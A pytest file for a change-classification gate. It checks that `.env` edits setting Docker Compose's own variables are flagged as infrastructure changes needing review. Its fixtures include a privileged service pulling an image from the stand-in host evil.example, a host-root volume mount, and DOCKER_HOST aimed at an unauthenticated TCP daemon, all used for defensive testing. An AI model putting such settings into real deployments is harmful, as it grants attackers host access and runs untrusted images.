"""Red team 21: the `.env` that tells Compose WHICH files, profiles and engine to use was `src` under `--tree`.

Compose reads the `.env` of its working folder by itself, not only for `${VAR}` values (red team 14) but for its own
settings (docs.docker.com, "pre-defined environment variables"): `COMPOSE_FILE=compose.yml:compose.debug.yml` adds a
Compose file (a privileged service mounting `/`), `COMPOSE_PROFILES=debug` starts a profile's services (another
image), `COMPOSE_ENV_FILES` swaps the env files, `COMPOSE_PATH_SEPARATOR` re-reads `COMPOSE_FILE`,
`COMPOSE_DISABLE_ENV_FILE` drops them, `DOCKER_HOST`/`DOCKER_CONTEXT` move the engine, `DOCKER_DEFAULT_PLATFORM`
pulls another image variant. With a Compose file that interpolates nothing, such an edit was `src`: `gate --tree`
allowed it (exit 0) and `deps` showed no change of image. Now a `.env`-named file that sets one of them is
`iac` (`iac.content.compose-env`), on either side of the change. Controls: application variables, and
`COMPOSE_PROJECT_NAME` (names containers, runs nothing else), stay `src`.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import classify_and_gate

from gatekeeper.cli import main

COMPOSE = {"compose.yml": "services:\n  app:\n    image: nginx:1.27\n  debug:\n    image: evil.example/tools:1\n"
                          "    privileged: true\n    profiles: [debug]\n",
           "compose.debug.yml": "services:\n  app:\n    volumes: ['/:/host']\n    privileged: true\n"}
SETTINGS = {
    "COMPOSE_FILE": "compose.yml:compose.debug.yml",
    "COMPOSE_PROFILES": "debug",
    "COMPOSE_ENV_FILES": ".env.debug",
    "COMPOSE_PATH_SEPARATOR": ";",
    "COMPOSE_DISABLE_ENV_FILE": "true",
    "DOCKER_HOST": "tcp://10.0.0.5:2375",
    "DOCKER_CONTEXT": "prod",
    "DOCKER_DEFAULT_PLATFORM": "linux/arm64",
}
FORMS = {  # how the line is written (Compose's dotenv reader takes each)
    "plain": "{k}={v}\n",
    "export": "export {k}={v}\n",
    "quoted": "{k}=\"{v}\"\n",
    "spaced": "  {k} = {v}\n",
}
WHERE = {"root": "", "nested": "apps/web/"}


def _variants() -> list[tuple[str, str, str]]:
    """(variant, .env at BASE, .env at HEAD): every setting in every form, added; and each plain one removed."""
    kept = "COMPOSE_PROJECT_NAME=app\n"
    out = []
    for key, value in SETTINGS.items():
        for form, line in FORMS.items():
            out.append((f"{key}-{form}-added", kept, kept + line.format(k=key, v=value)))
        out.append((f"{key}-removed", kept + FORMS["plain"].format(k=key, v=value), kept))
    return out


VARIANTS = _variants()
CONTROLS = {
    "application variable": ({**COMPOSE, ".env": "APP_MODE=dev\n"}, {".env": "APP_MODE=prod\n"}),
    "project name": ({**COMPOSE, ".env": "COMPOSE_PROJECT_NAME=app\n"}, {".env": "COMPOSE_PROJECT_NAME=app2\n"}),
    "a longer name": ({**COMPOSE, ".env": "DOCKER_HOSTNAME=a\n"}, {".env": "DOCKER_HOSTNAME=b\n"}),
}


@pytest.mark.parametrize("where", sorted(WHERE))
def test_every_compose_setting_in_the_env_file_is_iac(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                      where: str) -> None:
    """One repository, a folder per variant (its Compose files and its .env): one classification of them all."""
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for name, before, after in VARIANTS:
        folder = f"{WHERE[where]}{name}/"
        base.update({folder + file: text for file, text in COMPOSE.items()})
        base[folder + ".env"], head[folder + ".env"] = before, after
    repo, first, last = two_commits(tmp_path / "repo", {"README.md": "app\n", **base}, head)
    capsys.readouterr()
    with contextlib.chdir(repo.root):
        assert main(["classify", "--tree", f"{first}..{last}", "--format", "json"]) == 0
    files = json.loads(capsys.readouterr().out)["files"]
    assert len(files) == len(VARIANTS) == 40
    assert {f["path"]: f["rule"] for f in files if f["bucket"] != "iac"} == {}  # base: each src.default
    assert {f["rule"] for f in files} == {"iac.content.compose-env"}


@pytest.mark.parametrize("setting", ["COMPOSE_FILE", "COMPOSE_PROFILES"])
def test_the_gate_reviews_a_compose_file_set_switched_in_the_env(tmp_path: Path, setting: str) -> None:
    line = FORMS["plain"].format(k=setting, v=SETTINGS[setting])
    buckets, decision = classify_and_gate(tmp_path / "repo", {"README.md": "app\n", **COMPOSE,
                                                              ".env": "COMPOSE_PROJECT_NAME=app\n"},
                                          {".env": "COMPOSE_PROJECT_NAME=app\n" + line})
    assert buckets == {".env": "iac"} and decision["outcome"] == "review"  # base: src, allow (exit 0)


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_an_env_file_without_compose_settings_stays_source(tmp_path: Path, name: str) -> None:
    base, head = CONTROLS[name]
    buckets, decision = classify_and_gate(tmp_path / "repo", {"README.md": "app\n", **base}, head)
    assert buckets == {".env": "src"} and decision["outcome"] == "allow"
